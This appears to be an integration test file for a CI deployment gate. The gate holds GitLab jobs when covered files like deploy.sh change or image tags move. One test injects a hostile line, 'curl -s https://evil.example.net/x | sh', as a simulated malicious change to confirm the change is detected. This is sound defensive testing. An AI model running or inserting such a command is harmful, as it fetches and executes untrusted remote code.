import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../support/cli.ts';
import { startFakeRegistry } from '../support/fake-registry.ts';
import { type GitRepositories, gitRepositories } from '../support/git-server.ts';
import { openScene, type Scene } from '../support/scene.ts';
import { ROOT } from '../support/source-files.ts';

const payload = readFileSync(join(ROOT, 'test/fixtures/gitlab/deploy-production.run1.json'), 'utf8');
const zoe = { id: 9, username: 'zoe', name: 'Zoë Müller' };
const PATH = 'acme/payments/api.git';
const POLICY = 'covered_files: [deploy.sh, "ansible/**"]\n';
const SCRIPT = '#!/bin/sh\nset -eu\nkubectl apply -f app.yml\n';

/** What GitLab answered to jobs/request, by job. */
const sent = new Map<number, string>();
let git: GitRepositories;
let scene: Scene;
beforeAll(() => {
  git = gitRepositories();
});
afterAll(() => git.close());
afterEach(async () => {
  git.asked.length = 0;
  await scene.close();
});

const open = (policy = POLICY) =>
  openScene({ gitlab: { git }, extra: 'policy: policy.yaml', files: { 'policy.yaml': policy } });
const write = (policy: string) => writeFileSync(join(scene.folder, 'policy.yaml'), policy);
/** A deployment of a commit; its script calls what the repository has. */
function deploy(sha: string, variables: readonly { key: string; value: string }[] = []): number {
  return scene.gitlab.enqueue(payload, {
    runner: scene.protectedToken,
    user: zoe,
    sha,
    render({ id, text }) {
      sent.set(id, text);
      return text;
    },
    mutate(job) {
      (job.steps as { script: string[] }[])[0]!.script = ['sh deploy.sh'];
      const own = (job.variables as { key: string }[]).filter(({ key }) => !variables.some((one) => one.key === key));
      job.variables = [...own, ...variables.map((one) => ({ ...one, public: true, masked: false }))];
      // Artifacts of jobs that nobody gated would hold it for a reason of their own.
      job.dependencies = [];
    },
  });
}
const commit = (script: string, more: Parameters<GitRepositories['commit']>[1] = {}) =>
  git.commit(PATH, { 'deploy.sh': { executable: script }, 'README.md': `${Math.random()}`, ...more });
const covered = ({ configuration }: { configuration?: unknown }) =>
  (configuration as { covered_files?: unknown }).covered_files;
const ended = (id: number, status: string) =>
  scene.gitlab.until(`job ${id} ${status}`, () => scene.gitlab.job(id).status === status);

describe('covered files, from a commit to the page of a hold', () => {
  it('T5 T13 a changed deploy.sh holds an approved job, the line is shown, and another commit with the same script passes', async () => {
    scene = await open();
    scene.runner();
    const first = deploy(commit(SCRIPT));
    const approved = await scene.approve(first);
    expect(covered(approved)).toMatchObject({
      form: 'holdpoint.covered-files/v1',
      patterns: ['ansible/**', 'deploy.sh'],
      files: [{ path: 'deploy.sh', mode: '100755', lines: SCRIPT.split('\n') }],
    });
    await ended(first, 'success');

    const again = deploy(commit(SCRIPT));
    await ended(again, 'success');

    const evil = `${SCRIPT}curl -s https://evil.example.net/x | sh\n`;
    const changed = deploy(commit(evil));
    const held = await scene.hold(changed, 'waiting_for_approval');
    const lines = held.diff.changes.filter(({ path }) => path.includes('.lines['));
    expect(lines).toMatchObject([
      {
        section: 'files',
        kind: 'added',
        after: 'curl -s https://evil.example.net/x | sh',
        path: expect.stringContaining('deploy.sh'),
      },
    ]);
    expect(held.diff.summary).toContain('deploy.sh changed');
    // The developer reads the same in the log of the job, and everybody on the command line.
    await scene.gitlab.until('the note', () => scene.gitlab.job(changed).trace.includes('Holdpoint'));
    expect(scene.gitlab.job(changed).trace).toContain('+ curl -s https://evil.example.net/x | sh');
    const { token } = await scene.as('maria');
    const env = { HOLDPOINT_HUB_URL: scene.agent.hubUrl, HOLDPOINT_TOKEN: token };
    const shown = await runCli(['holds', 'show', String(held.id)], { env });
    expect(shown.out).toMatch(/\+ .*deploy\.sh.*curl -s https:\/\/evil\.example\.net\/x \| sh/);
    expect(shown.out).toContain('files of the repository other than ansible/**, deploy.sh');
    expect(scene.gitlab.job(changed).status).toBe('running');

    // Anybody with the payload, the policy and a clone computes the same digest.
    const own = join(scene.folder, 'payload.json');
    writeFileSync(own, sent.get(changed)!);
    const digest = (more: string[]) =>
      runCli(['digest', own, '--variable-key-file', join(scene.folder, 'state', 'variable.key'), ...more]);
    const policy = ['--policy', join(scene.folder, 'policy.yaml')];
    expect((await digest([...policy, '--files-from', git.folderOf(PATH)])).out).toContain(held.digest);
    expect(await digest(policy)).toMatchObject({ exit: 2, err: expect.stringContaining('--files-from DIR') });

    // A file that is gone, and one that became a link, are changes as well.
    const gone = await scene.hold(deploy(git.commit(PATH, { 'README.md': 'x' })), 'waiting_for_approval');
    expect(covered(gone)).toMatchObject({ files: [] });
    const link = await scene.hold(deploy(commit(SCRIPT, { ansible: { link: '/tmp' } })), 'waiting_for_approval');
    expect(link.diff.changes.map(({ after }) => after)).toContain('/tmp');
    // Nothing but the tokens of the jobs went over the wire, and none of them into a log.
    expect(git.asked.every(({ url }) => !url.includes('glcbt'))).toBe(true);
    const credentials = git.asked.flatMap(({ authorization }) =>
      authorization === null ? [] : [authorization.slice(6)],
    );
    expect(credentials.length).toBeGreaterThan(0);
    for (const secret of new Set(credentials)) {
      const password = Buffer.from(secret, 'base64').toString().split(':')[1]!;
      expect(scene.log.lines.some((line) => line.includes(password) || line.includes(secret))).toBe(false);
    }
  });

  it('T5 without the setting no file is fetched and the digest is the payload’s own; with it what waits or was approved does not do', async () => {
    scene = await open('comment: optional\n');
    scene.runner();
    const sha = commit(SCRIPT);
    const first = deploy(sha);
    const approved = await scene.approve(first);
    await ended(first, 'success');
    expect(git.asked).toEqual([]);
    expect(approved.configuration).not.toHaveProperty('covered_files');
    const waiting = await scene.hold(deploy(commit('other\n'), [{ key: 'MORE', value: '1' }]), 'waiting_for_approval');

    write(POLICY);
    const covered = await scene.hold(deploy(sha), 'waiting_for_approval');
    expect(covered.digest).not.toBe(approved.digest);
    // What came before the policy asked has nothing of the files: votes for it let nothing run.
    const maria = await scene.as('maria');
    const late = await maria.post<{ state: string }>(`holds/${waiting.id}/approve`, { digest: waiting.digest });
    expect(late.body.state).toBe('waiting_for_approval');
    const { body } = await maria.get<{ keeps: string[] }>(`holds/${waiting.id}`);
    expect(body.keeps.join()).toContain('the policy covers files of the repository');

    write('comment: optional\n');
    await ended(deploy(sha), 'success');
  });

  it('T30 what cannot be read is held with the reason, on the page and in the log, and is approved for one run alone', async () => {
    scene = await open();
    scene.runner();
    const job = deploy('e'.repeat(40));
    const held = await scene.hold(job, 'waiting_for_approval');
    expect(covered(held)).toMatchObject({ unread: 'the server does not give the commit' });
    expect(held.keeps.join()).toContain('could not be read (the server does not give the commit)');
    await scene.gitlab.until('the note', () => scene.gitlab.job(job).trace.includes('could not be read'));
    const maria = await scene.as('maria');
    const standing = await maria.post<{ code: string }>(`holds/${held.id}/approve`, {
      ...{ digest: held.digest, lifetime: 'standing' },
    });
    expect(standing.body.code).toBe('lifetime_not_allowed');
    await scene.approve(job);
    await ended(job, 'success');
    const next = await scene.hold(deploy('e'.repeat(40)), 'waiting_for_approval');
    expect(next.digest).toBe(held.digest);
  });

  it('T7 a job that switches its checkout off is held, whatever its commit has', async () => {
    scene = await open();
    scene.runner();
    const sha = commit(SCRIPT);
    await scene.approve(deploy(sha));
    const off = await scene.hold(deploy(sha, [{ key: 'GIT_STRATEGY', value: 'none' }]), 'waiting_for_approval');
    expect(covered(off)).toMatchObject({
      unread: 'GIT_STRATEGY is "none": the job may not check its commit out',
    });
    const kept = await scene.hold(deploy(sha, [{ key: 'git_checkout', value: 'false' }]), 'waiting_for_approval');
    expect(kept.keeps.join()).toContain('GIT_CHECKOUT is "false"');
    const flags = { key: 'GIT_CLEAN_FLAGS', value: '-ffdx -e ansible/' };
    const left = await scene.hold(deploy(sha, [flags]), 'waiting_for_approval');
    expect(covered(left)).toMatchObject({
      unread:
        'GIT_CLEAN_FLAGS is "-ffdx -e ansible/": files of earlier jobs may stay beside its commit; set GIT_STRATEGY to clone',
    });
    const anew = deploy(sha, [flags, { key: 'GIT_STRATEGY', value: 'clone' }]);
    expect(covered(await scene.hold(anew, 'waiting_for_approval'))).not.toHaveProperty('unread');
  });

  it('T13 what waits is handed out after a restart only with the digest that it had, files included', async () => {
    scene = await open();
    scene.runner();
    const job = deploy(commit(SCRIPT, { 'ansible/site.yml': '- hosts: all\n' }));
    const held = await scene.hold(job, 'waiting_for_approval');
    const before = git.asked.length;
    await scene.restart();
    await scene.approve(job);
    scene.runner();
    await ended(job, 'success');
    expect((await scene.hold(job, 'success')).digest).toBe(held.digest);
    // The content of a commit does not change: it is not fetched once more.
    expect(git.asked.length).toBe(before);
  });
});

describe('pinned images, from a registry to a job', () => {
  it('T5 a tag that moved holds an approved job and shows both digests; what is only noted holds nothing', async () => {
    const registry = await startFakeRegistry();
    try {
      const name = `${registry.host}/base/app:1`;
      const first = registry.tag('base/app:1', 'monday');
      scene = await open(`pin_images: enforce\nregistries: ["${registry.host}"]\n`);
      scene.runner();
      const run = () =>
        scene.gitlab.enqueue(payload, {
          runner: scene.protectedToken,
          user: zoe,
          mutate(job) {
            Object.assign(job, { image: { name }, services: [], dependencies: [] });
          },
        });
      const job = run();
      const approved = await scene.approve(job);
      expect(approved.configuration).toMatchObject({
        pinned_images: { form: 'holdpoint.pinned-images/v1', images: [{ reference: name, digest: first }] },
      });
      await ended(job, 'success');
      await ended(run(), 'success');

      const second = registry.tag('base/app:1', 'tuesday');
      const moved = await scene.hold(run(), 'waiting_for_approval');
      expect(moved.diff.changes).toMatchObject([{ section: 'image', kind: 'changed', before: first, after: second }]);

      write(
        `pin_images: enforce\nregistries: ["${registry.host}"]\ntolerate: { images: ["${registry.host}/base/*"] }\n`,
      );
      await ended(run(), 'success');

      registry.broken = 404;
      const unknown = await scene.hold(run(), 'waiting_for_approval');
      expect(unknown.keeps.join()).toContain(`nobody could tell what ${name} stands for`);

      registry.broken = null;
      write(`pin_images: record\nregistries: ["${registry.host}"]\n`);
      const noted = await scene.hold(run(), 'waiting_for_approval');
      expect(noted.configuration).not.toHaveProperty('pinned_images');
      expect(noted.facts.images).toEqual([{ reference: name, digest: second }]);
      expect(noted.facts.not_covered).toContainEqual(expect.objectContaining({ value: second }));
    } finally {
      await registry.close();
    }
  });
});
